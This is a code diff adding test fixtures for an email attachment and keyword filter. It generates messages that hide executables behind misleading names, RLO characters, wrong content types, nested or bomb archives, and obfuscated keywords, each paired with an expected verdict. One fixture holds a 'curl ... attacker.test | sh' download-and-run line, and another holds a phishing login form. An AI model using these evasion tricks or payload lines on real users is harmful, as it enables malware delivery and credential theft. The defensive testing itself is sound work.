@@ -311,6 +311,18 @@ def tar_gz(files):
     return gzip.compress(raw.getvalue(), 9, mtime=0)
 
 
+def tar_xz(files):
+    import lzma
+    raw = io.BytesIO()
+    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as t:
+        for name, data, mode in files:
+            ti = tarfile.TarInfo(name)
+            ti.size, ti.mode, ti.mtime = len(data), mode, 1710408412
+            ti.uname = ti.gname = "user"
+            t.addfile(ti, io.BytesIO(data))
+    return lzma.compress(raw.getvalue(), preset=9 | lzma.PRESET_EXTREME)
+
+
 def seven_z(files):
     with tempfile.TemporaryDirectory() as d:
         for name, data in files:
@@ -1291,6 +1303,581 @@ part: 1 type=text/plain charset=us-ascii
 keyword: none
 mime: ok
 """ + VERDICT_EXE
+
+
+
+# ================================================================ file names
+# The content is harmless text, so that the verdict comes from the name alone.
+
+
+def named(subject, ct_params, cd_params, data=HARMLESS, ctype="application/octet-stream"):
+    """One attachment whose Content-Type and Content-Disposition parameters are written as given."""
+    return mixed(subject, "Content-Type: %s;%s\nContent-Disposition: attachment;%s\n"
+                 "Content-Transfer-Encoding: base64\n" % (ctype, ct_params, cd_params), b64(data))
+
+
+def name_facts(why, name, ext, extra="", mime="ok", verdict="reject (attachment ext exe)", keyword="none",
+               ctype="application/octet-stream"):
+    return ("why: %s\npart: 0 type=multipart/mixed\n%s\npart: 2 type=%s disp=attachment name=\"%s\" ext=%s%s "
+            "truetype=unknown\nkeyword: %s\nmime: %s\nverdict: %s" % (why, text1(1), ctype, name, ext,
+                                                                      extra, keyword, mime, verdict))
+
+
+@case("name-filename-vs-name.eml")
+def _():
+    return (named("Report", ' name="report.pdf"', ' filename="report.exe"'),
+            "why: Content-Type name= says report.pdf, Content-Disposition filename= says report.exe: both count\n"
+            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
+            'part: 2 type=application/octet-stream disp=attachment name="report.exe" ext=exe '
+            'name2="report.pdf" ext2=pdf truetype=unknown\n'
+            "keyword: none\nmime: ok\nverdict: reject (attachment ext exe)")
+
+
+@case("name-2231-continuation.eml")
+def _():
+    return (named("Report", ' name*0="pay"; name*1="load.e"; name*2="xe"',
+                  '\n filename*0="pay";\n filename*1="load.e";\n filename*2="xe"'),
+            name_facts("RFC 2231 continuations in order, folded: pay + load.e + xe", "payload.exe", "exe"))
+
+
+@case("name-2231-out-of-order.eml")
+def _():
+    return (named("Report", ' name*2="xe"; name*0="pay"; name*1="load.e"',
+                  ' filename*2="xe"; filename*0="pay"; filename*1="load.e"'),
+            name_facts("RFC 2231 continuations out of order (*2, *0, *1): joined by number, not position",
+                       "payload.exe", "exe"))
+
+
+@case("name-2231-missing-piece.eml")
+def _():
+    return (named("Report", ' name*0="invoice.pdf"; name*2=".exe"', ' filename*0="invoice.pdf"; filename*2=".exe"'),
+            "why: RFC 2231 continuation *1 missing: some clients stop at the gap (invoice.pdf), some join the rest (invoice.pdf.exe)\n"
+            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
+            'part: 2 type=application/octet-stream disp=attachment name="invoice.pdf.exe" ext=exe exts=pdf,exe double-ext '
+            'name2="invoice.pdf" ext2=pdf truetype=unknown (both readings count)\n'
+            "keyword: none\nmime: malformed (RFC 2231 continuation *1 missing)\nverdict: reject (attachment ext exe)")
+
+
+@case("name-2231-charset-lang.eml")
+def _():
+    return (named("Rechnung", " name*=utf-8'ru'%D0%A1%D1%87%D0%B5%D1%82.exe",
+                  " filename*=utf-8'ru'%D0%A1%D1%87%D0%B5%D1%82.exe"),
+            name_facts("RFC 2231 charset'lang'%XX: utf-8'ru' Cyrillic name ending in .exe", "Счет.exe", "exe"))
+
+
+@case("name-2231-mixed-pieces.eml")
+def _():
+    return (named("Rechnung", " name*0*=utf-8''%E2%82%AC%20invoice; name*1=\".pdf\"; name*2*=%2Eexe",
+                  " filename*0*=utf-8''%E2%82%AC%20invoice; filename*1=\".pdf\"; filename*2*=%2Eexe"),
+            name_facts("RFC 2231 encoded (*0*, *2*) and plain quoted (*1) pieces mixed: \"€ invoice\" + \".pdf\" + \".exe\"",
+                       "€ invoice.pdf.exe", "exe", " exts=pdf,exe double-ext"))
+
+
+@case("name-2047-in-name.eml")
+def _():
+    return (named("Rechnung", ' name="=?UTF-8?B?cGF5bG9hZC5leGU=?="',
+                  ' filename="=?iso-8859-1?Q?Rechnung=5F2024=2Eexe?="'),
+            "why: RFC 2047 encoded words inside quoted parameters (forbidden by the RFC, written by many mailers, decoded by clients)\n"
+            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
+            'part: 2 type=application/octet-stream disp=attachment name="Rechnung_2024.exe" ext=exe '
+            'name2="payload.exe" ext2=exe truetype=unknown\n'
+            "keyword: none\nmime: ok\nverdict: reject (attachment ext exe)")
+
+
+@case("name-trailing-dot.eml")
+def _():
+    return (named("Invoice", ' name="invoice.exe."', ' filename="invoice.exe."'),
+            name_facts("trailing dot: Windows saves invoice.exe. as invoice.exe", "invoice.exe.", "exe",
+                       ' saved="invoice.exe"'))
+
+
+@case("name-trailing-spaces.eml")
+def _():
+    return (named("Invoice", ' name="invoice.exe  "', ' filename="invoice.exe  "'),
+            name_facts("trailing spaces: Windows saves 'invoice.exe  ' as invoice.exe", "invoice.exe  ", "exe",
+                       ' saved="invoice.exe"'))
+
+
+@case("name-trailing-dots-spaces-mixed.eml")
+def _():
+    return (named("Invoice", ' name="invoice.exe . . "', ' filename="invoice.exe . . "'),
+            name_facts("trailing dots and spaces interleaved: 'invoice.exe . . ' is still saved as invoice.exe",
+                       "invoice.exe . . ", "exe", ' saved="invoice.exe"'))
+
+
+@case("name-double-ext.eml")
+def _():
+    return (named("Invoice", ' name="invoice.pdf.exe"', ' filename="invoice.pdf.exe"'),
+            name_facts("double extension invoice.pdf.exe", "invoice.pdf.exe", "exe", " exts=pdf,exe double-ext"))
+
+
+@case("name-double-ext-spaces.eml")
+def _():
+    n = "invoice.pdf" + " " * 40 + ".exe"
+    return (named("Invoice", ' name="%s"' % n, ' filename="%s"' % n),
+            name_facts("double extension hidden behind 40 spaces (the .exe falls off the visible column)",
+                       "invoice.pdf<40 spaces>.exe", "exe", " exts=pdf,exe double-ext"))
+
+
+@case("name-double-ext-html.eml")
+def _():
+    html = b"<html><body><form action='https://login.attacker.test/'>Password: <input name=p></form></body></html>\n"
+    return (named("Your document", ' name="scan_0042.pdf.html"', ' filename="scan_0042.pdf.html"', html, "text/html"),
+            name_facts("double extension whose last one (html) is not in the exe list: the double-ext rule decides",
+                       "scan_0042.pdf.html", "html", " exts=pdf,html double-ext", ctype="text/html",
+                       verdict="reject (attachment double-ext)").replace("truetype=unknown", "truetype=unknown (html)"))
+
+
+@case("name-bidi-rlo.eml")
+def _():
+    return (named("Invoice", ' name="=?UTF-8?Q?invoice=E2=80=AEfdp=2Eexe?="',
+                  " filename*=UTF-8''invoice%E2%80%AEfdp.exe"),
+            name_facts("U+202E RIGHT-TO-LEFT OVERRIDE: invoice\\u202Efdp.exe displays as invoiceexe.pdf (2231 and 2047 forms)",
+                       "invoice\\u202Efdp.exe", "exe", " bidi", verdict="reject (attachment bidi)"))
+
+
+@case("name-path-traversal.eml")
+def _():
+    return (named("Invoice", ' name="..\\\\..\\\\a.exe"', ' filename="..\\..\\a.exe"'),
+            "why: a Windows path in the name: quoted-pair form in name=, raw backslashes (as Windows mailers write) in filename=\n"
+            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
+            'part: 2 type=application/octet-stream disp=attachment name="..\\..\\a.exe" saved="a.exe" ext=exe path '
+            'name2="..\\..\\a.exe" (or "....a.exe" read as quoted-pairs: ext exe either way) truetype=unknown\n'
+            "keyword: none\nmime: ok\nverdict: reject (attachment ext exe)")
+
+
+@case("name-path-unix.eml")
+def _():
+    return (named("Invoice", ' name="../../../tmp/a.sh"', ' filename="/etc/cron.d/../../tmp/a.sh"'),
+            "why: Unix paths in both names; only the last component is the file name\n"
+            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
+            'part: 2 type=application/octet-stream disp=attachment name="/etc/cron.d/../../tmp/a.sh" saved="a.sh" ext=sh '
+            'name2="../../../tmp/a.sh" ext2=sh path truetype=unknown\n'
+            "keyword: none\nmime: ok\nverdict: reject (attachment ext sh)")
+
+
+@case("name-upper-case.eml")
+def _():
+    return (named("Invoice", ' name="A.EXE"', ' filename="A.EXE"'),
+            name_facts("upper case A.EXE: extensions compare case-folded", "A.EXE", "exe"))
+
+
+
+# ================================================================ true types that lie
+
+
+def lie(subject, name, ctype, data, why, truetype, verdict, extra=""):
+    h, b = attach(name, data, ctype)
+    ext = name.rsplit(".", 1)[1].lower()
+    return (mixed(subject, h, b),
+            "why: %s\npart: 0 type=multipart/mixed\n%s\npart: 2 type=%s disp=attachment name=\"%s\" ext=%s "
+            "truetype=%s%s\nkeyword: none\nmime: ok\nverdict: %s" % (why, text1(1), ctype, name, ext, truetype,
+                                                                    extra, verdict))
+
+
+@case("truetype-exe-as-pdf.eml")
+def _():
+    return lie("Invoice", "invoice.pdf", "application/pdf", EXE,
+               "a PE executable (MZ, e_lfanew -> PE\\0\\0) named invoice.pdf and declared application/pdf",
+               "exe", "reject (attachment truetype exe)")
+
+
+@case("truetype-elf-as-txt.eml")
+def _():
+    return lie("Notes", "notes.txt", "text/plain", elf_exe(),
+               "an x86-64 ELF executable named notes.txt and declared text/plain (base64, so not a text part to scan)",
+               "elf", "reject (attachment truetype elf)")
+
+
+@case("truetype-macho-as-pdf.eml")
+def _():
+    return lie("Invoice", "invoice.pdf", "application/pdf", macho_exe(),
+               "a 64-bit Mach-O executable (CF FA ED FE) named invoice.pdf", "macho",
+               "reject (attachment truetype macho)")
+
+
+@case("truetype-zip-as-jpg.eml")
+def _():
+    return lie("Photos", "photo.jpg", "image/jpeg", zip_of([("photo.scr", EXE)]),
+               "a zip named photo.jpg and declared image/jpeg, holding photo.scr", "zip",
+               "reject (attachment inner-ext scr)", ' inner="photo.scr" inner-ext=scr')
+
+
+@case("truetype-docm-as-docx.eml")
+def _():
+    return lie("Order", "order.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docm(),
+               "a macro-enabled Word document (zip with word/vbaProject.bin) named .docx", "ooxml-macro",
+               "reject (attachment truetype ooxml-macro)")
+
+
+@case("truetype-ole-macro-doc.eml")
+def _():
+    return lie("Order", "order.doc", "application/msword", ole_doc_macro(),
+               "an OLE2 Word .doc (D0 CF 11 E0 A1 B1 1A E1) with Macros/VBA/_VBA_PROJECT directory entries",
+               "ole-macro", "reject (attachment truetype ole-macro)")
+
+
+@case("truetype-ole-plain-doc.eml")
+def _():
+    return lie("Minutes", "minutes.doc", "application/msword", ole_doc_plain(),
+               "a plain OLE2 Word .doc without a VBA project: an old but clean document", "ole", "accept")
+
+
+@case("truetype-pdf.eml")
+def _():
+    return lie("Brochure", "brochure.pdf", "application/pdf", pdf_doc("Brochure"),
+               "a real one-page PDF, declared and named as one", "pdf", "accept")
+
+
+@case("truetype-iso-as-dat.eml")
+def _():
+    return lie("Shipping documents", "Order_4471.dat", "application/octet-stream", iso9660(),
+               "an ISO 9660 image (CD001 at offset 32769) named .dat: the sniffer must look past the first 32 KB",
+               "iso", "reject (attachment truetype iso)")
+
+
+@case("truetype-script-as-txt.eml")
+def _():
+    return lie("Setup", "setup.txt", "application/octet-stream",
+               b"#!/bin/sh\ncurl -s https://attacker.test/x | sh\n",
+               "a shell script (#!/bin/sh) named setup.txt", "script", "reject (attachment truetype script)")
+
+
+@case("attach-declared-type.eml")
+def _():
+    h, b = attach("update.bin", HARMLESS, "application/x-msdownload")
+    return (mixed("Update", h, b),
+            "why: harmless bytes declared application/x-msdownload: the declared type alone decides\n"
+            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
+            'part: 2 type=application/x-msdownload disp=attachment name="update.bin" ext=bin truetype=unknown\n'
+            "keyword: none\nmime: ok\nverdict: reject (attachment type application/x-msdownload)")
+
+
+@case("attach-hash-known.eml")
+def _():
+    import hashlib
+    h, b = attach("statement.txt", KNOWN_BAD, "text/plain")
+    return (mixed("Statement", h, b),
+            "why: an attachment whose SHA-256 is listed in mime.rules (the content itself is harmless text)\n"
+            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
+            'part: 2 type=text/plain disp=attachment name="statement.txt" ext=txt truetype=unknown sha256=%s\n'
+            "keyword: none\nmime: ok\nverdict: reject (attachment hash)" % hashlib.sha256(KNOWN_BAD).hexdigest())
+
+
+# ================================================================ archives
+
+
+def arch(subject, name, ctype, data, why, truetype, inner, verdict, mime="ok", extra=""):
+    h, b = attach(name, data, ctype)
+    ext = name.rsplit(".", 1)[1].lower()
+    return (mixed(subject, h, b),
+            "why: %s\npart: 0 type=multipart/mixed\n%s\npart: 2 type=%s disp=attachment name=\"%s\" ext=%s "
+            "truetype=%s %s%s\nkeyword: none\nmime: %s\nverdict: %s" % (why, text1(1), ctype, name, ext, truetype,
+                                                                       inner, extra, mime, verdict))
+
+
+@case("archive-zip-exe.eml")
+def _():
+    return arch("Invoice", "invoice.zip", "application/zip", zip_of([("invoice.exe", EXE)]),
+                "a zip holding invoice.exe", "zip", 'inner="invoice.exe" inner-ext=exe',
+                "reject (attachment inner-ext exe)")
+
+
+@case("archive-zip-clean.eml")
+def _():
+    return arch("Photos", "photos.zip", "application/zip",
+                zip_of([("holiday/", b""), ("holiday/beach.jpg", jpeg_tiny()), ("holiday/notes.txt", b"Day 1: sun\n")]),
+                "a clean zip: a folder, a jpeg and a text file", "zip",
+                'inner="holiday/","holiday/beach.jpg","holiday/notes.txt" inner-ext=jpg,txt', "accept")
+
+
+@case("archive-zip-nested.eml")
+def _():
+    z3 = zip_of([("payload.exe", EXE)])
+    z2 = zip_of([("level3.zip", z3)])
+    z1 = zip_of([("level2.zip", z2), ("readme.txt", b"open level2\n")])
+    return arch("Documents", "documents.zip", "application/zip", z1,
+                "zip in zip in zip: documents.zip > level2.zip > level3.zip > payload.exe", "zip",
+                'inner="level2.zip","readme.txt","level2.zip/level3.zip","level2.zip/level3.zip/payload.exe" '
+                "inner-ext=zip,txt,exe", "reject (attachment inner-ext exe)")
+
+
+@case("archive-zip-encrypted.eml")
+def _():
+    z = zip_encrypted([("invoice.pdf", pdf_doc("Invoice"))], "4471")
+    h, b = attach("invoice.zip", z, "application/zip")
+    return (mixed("Invoice", h, b, text="The password is 4471.\n"),
+            "why: zip -P (traditional PKWARE encryption): the entry name is still listed, the content cannot be read\n"
+            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
+            'part: 2 type=application/zip disp=attachment name="invoice.zip" ext=zip truetype=zip inner="invoice.pdf" '
+            "inner-ext=pdf encrypted\nkeyword: none\nmime: ok\nverdict: quarantine (attachment encrypted)")
+
+
+@case("archive-7z.eml")
+def _():
+    return arch("Invoice", "invoice.7z", "application/x-7z-compressed",
+                seven_z([("invoice.js", b"WScript.Echo('hi');\n"), ("readme.txt", b"run invoice.js\n")]),
+                "a 7z archive holding a JScript file", "7z", 'inner="invoice.js","readme.txt" inner-ext=js,txt',
+                "reject (attachment inner-ext js)")
+
+
+@case("archive-tar-gz.eml")
+def _():
+    return arch("Logs", "logs.tar.gz", "application/gzip",
+                tar_gz([("logs/", b"", 0o755), ("logs/app.log", b"ok\n", 0o644), ("logs/update.exe", EXE, 0o755)]),
+                "a gzip-compressed tar holding update.exe", "gzip",
+                'inner="logs/","logs/app.log","logs/update.exe" inner-ext=log,exe',
+                "reject (attachment inner-ext exe)", extra=" (tar inside)")
+
+
+@case("archive-bomb-zeros.eml")
+def _():
+    return arch("Backup", "backup.zip", "application/zip", zip_of([("zeros.bin", b"\0" * (10 << 20))]),
+                "10 MiB of zeros deflated to ~10 KB (ratio ~1000:1): listing must not inflate it", "zip",
+                'inner="zeros.bin" inner-ext=bin claimed=10485760', "reject (mime limit)",
+                mime="limit (archive expansion ratio)")
+
+
+@case("archive-bomb-claims-4g.eml")
+def _():
+    data = deflate_raw(b"\0" * (1 << 20))
+    usize = 4000000000
+    crc = 0x1B8A5C3D
+    z = zip_raw([("disk.img", 8, data, usize, crc), ("disk2.img", 8, data, usize, crc)],
+                [("disk.img", 8, len(data), usize, crc, 0), ("disk2.img", 8, len(data), usize, crc, 1)])
+    return arch("Backup", "backup.zip", "application/zip", z,
+                "a hand-written zip whose headers claim 2 x 4,000,000,000 bytes (the data inflates to 1 MiB each)", "zip",
+                'inner="disk.img","disk2.img" inner-ext=img claimed=8000000000', "reject (mime limit)",
+                mime="limit (archive expansion: claimed size)")
+
+
+@case("archive-zip-2000-entries.eml")
+def _():
+    alpha = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
+    names = list(alpha) + [a + b for a in alpha for b in alpha]
+    names = names[:2000]
+    return arch("Archive", "many.zip", "application/zip", zip_of([(n, b"") for n in names], zipfile.ZIP_STORED),
+                "a zip with 2,000 empty stored entries (one- and two-character names): the entry limit", "zip",
+                "inner=2000 entries", "reject (mime limit)", mime="limit (archive entries)")
+
+
+@case("archive-txz-2000-entries.eml")
+def _():
+    return arch("Archive", "many.tar.xz", "application/x-xz",
+                tar_xz([("f%04d" % k, b"", 0o644) for k in range(2000)]),
+                "a tar.xz with 2,000 empty entries: the entry limit for a streamed format (small on the wire)", "xz",
+                "inner=2000 entries", "reject (mime limit)", mime="limit (archive entries)", extra=" (tar inside)")
+
+
+
+# ================================================================ keywords
+# mime.rules: keywords secret { "project falcon", "geschäftsgeheimnis", "секретно" } -> redirect;
+#             keywords adult word { "sex" } -> tag subject "[ADULT]".
+
+
+def kw(subject, ctype, cte, body, frm="Nora <nora@partner.test>"):
+    return head(subject, frm=frm) + "Content-Type: %s\nContent-Transfer-Encoding: %s\n\n" % (ctype, cte) + body
+
+
+def kw_facts(why, part0, where="part 0", verdict=KW_SECRET, word="project falcon", keyword=None):
+    return ("why: %s\npart: 0 %s\nkeyword: %s\nmime: ok\n%s"
+            % (why, part0, keyword or '"%s" (list secret) in %s' % (word, where), verdict))
+
+
+@case("keyword-subject-2047-split.eml")
+def _():
+    subj = "=?UTF-8?B?%s?= =?UTF-8?Q?con_update?=" % base64.b64encode(b"Project fal").decode()
+    return (kw(subj, "text/plain; charset=us-ascii", "7bit", "See you at the meeting.\n"),
+            kw_facts("the keyword split across two RFC 2047 encoded words (B then Q); the space between them is dropped",
+                     "type=text/plain charset=us-ascii", where="subject (\"Project falcon update\")"))
+
+
+@case("keyword-base64-text.eml")
+def _():
+    k = 0
+    while True:
+        text = "Hello team,\n\nstatus: " + "very " * k + "good; project falcon ships on Friday.\n\nNora\n"
+        at = text.index("project falcon")
+        if at < 57 < at + len("project falcon"):
+            break
+        k += 1
+    return (kw("Status", "text/plain; charset=utf-8", "base64", b64(text.encode())),
+            kw_facts("the keyword in base64 text, straddling two encoded lines (57-byte groups)",
+                     "type=text/plain charset=utf-8"))
+
+
+@case("keyword-qp-soft-break.eml")
+def _():
+    body = "Hello team,\n\nthe kickoff of project fal=\ncon is moved to Monday.\n\nNora\n"
+    return (kw("Kickoff", "text/plain; charset=us-ascii", "quoted-printable", body),
+            kw_facts("the keyword cut by a quoted-printable soft line break (fal=CRLF con)",
+                     "type=text/plain charset=us-ascii"))
+
+
+@case("keyword-html-tags.eml")
+def _():
+    return (kw("Kickoff", "text/html; charset=us-ascii", "7bit",
+               "<html><body><p>The kickoff of project fal<b>con</b> is on Monday.</p></body></html>\n"),
+            kw_facts("the keyword split by inline tags: fal<b>con</b>", "type=text/html charset=us-ascii"))
+
+
+@case("keyword-html-entity.eml")
+def _():
+    return (kw("Kickoff", "text/html; charset=us-ascii", "7bit",
+               "<html><body><p>The kickoff of project fal&#99;on is on Monday.</p></body></html>\n"),
+            kw_facts("a letter of the keyword as a numeric character reference: fal&#99;on", "type=text/html charset=us-ascii"))
+
+
+@case("keyword-html-entity-hex-named.eml")
+def _():
+    return (kw("Kickoff", "text/html; charset=us-ascii", "7bit",
+               "<html><body><p>The kickoff of project&nbsp;&#x66;&#X61;lcon is on Monday.</p></body></html>\n"),
+            kw_facts("hex references (&#x66; &#X61;) and &nbsp; as the space inside the phrase",
+                     "type=text/html charset=us-ascii"))
+
+
+@case("keyword-html-shy.eml")
+def _():
+    return (kw("Kickoff", "text/html; charset=us-ascii", "7bit",
+               "<html><body><p>The kickoff of project fal&shy;con is on Monday.</p></body></html>\n"),
+            kw_facts("an invisible soft hyphen inside the keyword: fal&shy;con", "type=text/html charset=us-ascii"))
+
+
+@case("keyword-html-comment.eml")
+def _():
+    return (kw("Kickoff", "text/html; charset=us-ascii", "7bit",
+               "<html><body><p>The kickoff of project fal<!-- x -->con is on Monday.</p></body></html>\n"),
+            kw_facts("an HTML comment inside the keyword: fal<!-- x -->con", "type=text/html charset=us-ascii"))
+
+
+@case("keyword-line-break.eml")
+def _():
+    return (kw("Kickoff", "text/plain; charset=us-ascii", "7bit",
+               "Hello team,\n\nthe kickoff of the project\nfalcon budget is on Monday.\n"),
+            kw_facts("the phrase broken across two lines (a line break counts as the space)",
+                     "type=text/plain charset=us-ascii"))
+
+
+@case("keyword-zero-width.eml")
+def _():
+    text = "Hello team,\n\nthe kickoff of project fal\u200bc\u200don is on Monday.\n"
+    return (kw("Kickoff", "text/plain; charset=utf-8", "quoted-printable", qp(text)),
+            kw_facts("zero-width space U+200B and zero-width joiner U+200D inside the keyword (QP UTF-8)",
+                     "type=text/plain charset=utf-8"))
+
+
+@case("keyword-windows-1252.eml")
+def _():
+    text = "Sehr geehrte Damen und Herren,\n\ndies ist ein Geschäftsgeheimnis \u2013 bitte nicht weitergeben.\n"
+    return (kw("Vertraulich", "text/plain; charset=windows-1252", "quoted-printable", qp(text, "windows-1252")),
+            kw_facts("the keyword in windows-1252 QP (a-umlaut =E4), matched after conversion to UTF-8",
+                     "type=text/plain charset=windows-1252", word="geschäftsgeheimnis"))
+
+
+@case("keyword-koi8r.eml")
+def _():
+    text = "Коллеги,\n\nдокумент совершенно секретно, не пересылайте.\n"
+    return (head("Document", frm="Pavel <pavel@partner.test>").encode()
+            + b"Content-Type: text/plain; charset=koi8-r\nContent-Transfer-Encoding: 8bit\n\n" + text.encode("koi8-r"),
+            kw_facts("the keyword in koi8-r 8bit text, matched after conversion to UTF-8",
+                     "type=text/plain charset=koi8-r", word="секретно"))
+
+
+@case("keyword-attachment-name-only.eml")
+def _():
+    h, b = attach("project falcon.pdf", pdf_doc("Plan"), "application/pdf")
+    return (mixed("Plan", h, b, text="The plan is attached.\n", frm="Nora <nora@partner.test>"),
+            "why: the keyword only in an attachment's file name: a name is not text, so no keyword fact\n"
+            "part: 0 type=multipart/mixed\n" + text1(1) + "\n"
+            'part: 2 type=application/pdf disp=attachment name="project falcon.pdf" ext=pdf truetype=pdf\n'
+            "keyword: none\nmime: ok\nverdict: accept")
+
+
+@case("keyword-wholeword-essex.eml")
+def _():
+    return (kw("Essex trip", "text/plain; charset=us-ascii", "7bit",
+               "We drive through Essex and Middlesex to Sussex; bring the sextant, the sexton waits.\n"),
+            "why: whole-word list <adult> (\"sex\"): Essex, Middlesex, Sussex, sextant, sexton must not match\n"
+            "part: 0 type=text/plain charset=us-ascii\nkeyword: none\nmime: ok\nverdict: accept")
+
+
+@case("keyword-wholeword-sex.eml")
+def _():
+    return (kw("Tonight", "text/plain; charset=us-ascii", "7bit", "The film tonight: Sex, Lies, and Videotape.\n"),
+            "why: whole-word list <adult> (\"sex\"): \"Sex,\" is a whole word, matched caseless\n"
+            "part: 0 type=text/plain charset=us-ascii\nkeyword: \"sex\" (list adult) in part 0\nmime: ok\n"
+            "verdict: accept, tag subject \"[ADULT]\" (keyword <adult>)")
+
+
+# ================================================================ limits
+
+
+@case("limit-nesting-50.eml")
+def _():
+    msg = head("Deep") + 'Content-Type: multipart/mixed; boundary="n00"\n\n'
+    for k in range(1, 50):
+        msg += '--n%02d\nContent-Type: multipart/mixed; boundary="n%02d"\n\n' % (k - 1, k)
+    msg += "--n49\nContent-Type: text/plain\n\nbottom\n"
+    for k in range(49, -1, -1):
+        msg += "--n%02d--\n" % k
+    return msg, """why: 50 nested multipart/mixed levels, a text part at the bottom (no client needs more than a handful)
+part: 0..49 type=multipart/mixed (one per level; parts below the depth limit are not opened)
+part: 50 type=text/plain charset=us-ascii (only if the depth limit were over 50)
+keyword: none
+mime: limit (nesting depth)
+verdict: reject (mime limit)"""
+
+
+@case("limit-parts-2000.eml", eol="lf")
+def _():
+    msg = head("Many") + 'Content-Type: multipart/mixed; boundary="b"\n\n' + "--b\n\n" * 2000 + "--b--\n"
+    return msg, """why: 2,000 empty parts (each a delimiter and a blank line); LF line ends to keep the file small
+part: 0 type=multipart/mixed
+part: 1..2000 type=text/plain charset=us-ascii (empty; parts past the parts limit are not opened)
+keyword: none
+mime: limit (parts)
+verdict: reject (mime limit)"""
+
+
+@case("limit-header-100k.eml")
+def _():
+    junk = "x" * (100 * 1024)
+    h, b = attach("a.txt", b"hello\n", "text/plain")
+    msg = mixed("Long", 'Content-Type: text/plain; x-junk="%s"\nContent-Disposition: attachment; filename="a.txt"\n'
+                'Content-Transfer-Encoding: base64\n' % junk, b)
+    return msg, """why: a part header line of 100 KB (a Content-Type parameter of 102,400 x's), unfolded
+part: 0 type=multipart/mixed
+part: 1 type=text/plain charset=us-ascii
+part: 2 type=text/plain disp=attachment name="a.txt" (its header block is over the header limit)
+keyword: none
+mime: limit (header line length)
+verdict: reject (mime limit)"""
+
+
+@case("limit-boundary-10000.eml")
+def _():
+    bd = ("=_" + "0123456789" * 1000)[:10000]
+    msg = (head("Long boundary") + 'Content-Type: multipart/mixed; boundary="%s"\n\n--%s\n' % (bd, bd)
+           + "Content-Type: text/plain\n\nhello\n--%s--\n" % bd)
+    return msg, """why: a 10,000-byte boundary (RFC 2046 allows 70): more than a delimiter line may hold
+part: 0 type=multipart/mixed
+keyword: none
+mime: limit (boundary length)
+verdict: reject (mime limit)"""
+
+
+@case("limit-boundary-70.eml")
+def _():
+    bd = ("'()+_,-./:=?" + "ab0123456789" * 6)[:70]
+    assert len(bd) == 70
+    msg = (head("Longest legal boundary") + 'Content-Type: multipart/mixed; boundary="%s"\n\n--%s\n' % (bd, bd)
+           + "Content-Type: text/plain\n\nhello\n--%s--\n" % bd)
+    return msg, """why: a 70-byte boundary, the RFC 2046 maximum, using every special character bchars allows
+part: 0 type=multipart/mixed
+part: 1 type=text/plain charset=us-ascii
+keyword: none
+mime: ok
+verdict: accept"""
 
 
 # ================================================================ driver
